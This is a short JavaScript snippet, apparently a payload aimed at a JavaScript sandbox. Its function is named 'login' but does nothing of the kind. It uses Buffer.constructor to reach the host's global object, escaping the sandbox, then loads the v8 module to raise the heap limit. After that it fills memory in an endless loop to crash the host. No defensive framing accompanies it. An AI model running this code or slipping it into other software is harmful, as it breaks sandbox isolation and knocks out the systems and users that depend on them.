async function login() {
  const outside = Buffer.constructor('return globalThis')();
  outside.process.getBuiltinModule('v8').setFlagsFromString('--max-old-space-size=4096');
  const all = [];
  while (true) all.push(new Array(10000).fill({ a: Math.random() }));
}
